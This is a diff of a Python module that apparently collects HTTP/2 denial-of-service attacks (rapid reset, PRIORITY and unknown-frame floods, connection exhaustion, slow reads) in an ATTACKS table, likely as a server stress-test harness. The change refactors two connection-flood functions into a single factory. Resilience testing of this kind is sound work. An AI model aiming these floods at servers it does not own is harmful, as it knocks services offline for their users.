@@ -115,26 +115,19 @@ def rapid_reset(address: tuple[str, int], until: float) -> None:
     _repeat(calls)(address, until)
 
 
-def connections_that_only_greet(address: tuple[str, int], until: float) -> None:
-    """As many connections as there may be from one address, and one more each time that one is ended."""
-    strangers: list[Stranger] = []
-    while time.monotonic() < until:
-        with suppress(OSError):
-            while len(strangers) < 1_500 and time.monotonic() < until:
-                strangers.append(Stranger(address))
-        strangers = [stranger for stranger in strangers if stranger.send(b"")]
-        time.sleep(0.05)
+def _crowd(hello: bytes) -> Callable[[tuple[str, int], float], None]:
+    """As many connections as an address may have, and one more for each that is ended."""
 
+    def attack(address: tuple[str, int], until: float) -> None:
+        strangers: list[Stranger] = []
+        while time.monotonic() < until:
+            with suppress(OSError):
+                while len(strangers) < 1_500 and time.monotonic() < until:
+                    strangers.append(Stranger(address, hello))
+            strangers = [stranger for stranger in strangers if stranger.send(b"")]
+            time.sleep(0.05)
 
-def connections_that_say_nothing(address: tuple[str, int], until: float) -> None:
-    """The same, without a word."""
-    strangers: list[Stranger] = []
-    while time.monotonic() < until:
-        with suppress(OSError):
-            while len(strangers) < 1_500 and time.monotonic() < until:
-                strangers.append(Stranger(address, b""))
-        strangers = [stranger for stranger in strangers if stranger.send(b"")]
-        time.sleep(0.05)
+    return attack
 
 
 def coming_and_going(address: tuple[str, int], until: float) -> None:
@@ -194,8 +187,8 @@ ATTACKS: Final[dict[str, Callable[[tuple[str, int], float], None]]] = {
     "priorities": _repeat(lambda count: frame(FrameKind.PRIORITY, 0, 2 * count + 3, b"\0\0\0\0\1") * 1_000),
     "unknown frames": _repeat(lambda _: frame(0x77, 0, 0, b"z" * 16_000)),
     "another protocol": _repeat(lambda _: b"GET / HTTP/1.1\r\n\r\n", b""),
-    "connections that only greet": connections_that_only_greet,
-    "connections that say nothing": connections_that_say_nothing,
+    "connections that only greet": _crowd(HELLO),
+    "connections that say nothing": _crowd(b""),
     "coming and going": coming_and_going,
     "large messages that do not come": large_messages_that_do_not_come,
     "answers that nobody reads": answers_that_nobody_reads,
